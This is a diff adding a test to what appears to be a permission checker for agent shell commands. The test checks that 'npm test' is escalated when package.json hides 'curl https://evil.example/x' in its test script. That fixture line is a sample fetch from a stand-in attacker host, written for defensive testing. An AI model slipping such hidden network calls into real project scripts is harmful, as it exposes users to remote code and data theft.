@@ -265,3 +265,20 @@ describe('the category order', () => {
     expect([...CATEGORY_ORDER].sort()).toEqual([...CATEGORIES].sort());
   });
 });
+
+describe('suggested rules', () => {
+  it('none for a segment read from a script file: its words are never sent and its label is internal', async () => {
+    const manifest = JSON.stringify({ scripts: { test: 'curl https://evil.example/x' } });
+    const req = {
+      ...request({ kind: 'shell', command: 'npm test' }),
+      readScript: (abs: string) =>
+        abs.endsWith('/package.json')
+          ? { kind: 'text' as const, text: manifest }
+          : { kind: 'missing' as const },
+    };
+    const r = await checkWithTrace(req, deps);
+    expect(r.decision.verdict).toBe('escalate');
+    expect(r.decision.categories).toContain('outbound_network_to_unstated_host');
+    expect(r.suggestions).toEqual([]);
+  });
+});
